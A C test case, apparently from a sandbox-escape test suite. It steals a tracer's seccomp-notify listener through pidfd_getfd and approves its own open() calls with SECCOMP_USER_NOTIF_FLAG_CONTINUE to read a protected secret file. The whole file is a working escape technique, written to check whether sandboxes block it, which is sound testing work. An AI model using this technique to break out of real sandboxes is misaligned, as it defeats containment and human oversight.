/*
 * Vectors 9, 10: take the tracer's seccomp-notify listener with pidfd_open +
 * pidfd_getfd (TracerPid from /proc/self/status, its fds from /proc/PID/fd)
 * and answer our own open notifications with FLAG_CONTINUE before the tracer
 * does: the kernel then opens protected/secret.txt undecided. Natively there
 * is no tracer: run.sh's outside victim stands in for it (pidfd_getfd of its
 * fd 0 proves the primitive) and the open is plain. Where the tracer holds no
 * listener (ptrace-only modes) the opens are decided as usual.
 * expect: ptrace_process|ptrace_file
 */
#include "esc.h"
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/ioctl.h>

static int listener = -1;
static atomic_long answered;

static void *answerer(void *arg)
{
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;

	(void)arg;
	for (;;) {
		memset(&req, 0, sizeof(req));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EBADF)
				return NULL;
			continue;
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0)
			atomic_fetch_add(&answered, 1);
	}
}

static bool contains(const char *link, const void *what)
{
	return strstr(link, what) != NULL;
}

/* The fd of pid whose /proc link contains what, as our own fd; -1 if none. */
static int steal_fd(pid_t pid, const char *what)
{
	return esc_steal_fd(pid, contains, what);
}

int main(void)
{
	pid_t tracer = esc_tracer_pid();
	pthread_t th;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (!tracer) {
		int g = steal_fd(esc_victim_pid(), "");

		if (g < 0)
			esc_blocked("pidfd_getfd of the stand-in's fd: %s", strerror(errno));
	} else if ((listener = steal_fd(tracer, "seccomp notify")) >= 0) {
		pthread_create(&th, NULL, answerer, NULL);
		usleep(50 * 1000);
	}
	/* A few tries: the tracer's own receive may win a notification. */
	for (int i = 0; i < 200; i++) {
		int fd = open(esc_secret_path(), O_RDONLY);

		if (fd >= 0 && esc_fd_has_secret(fd))
			esc_success("read the secret at open %d (%ld notifications answered by us)",
				    i + 1, atomic_load(&answered));
		if (fd >= 0)
			close(fd);
		usleep(1000);
	}
	esc_blocked("never read the secret (%s; %ld notifications answered by us)",
		    listener >= 0 ? "listener taken" : "no listener taken", atomic_load(&answered));
}
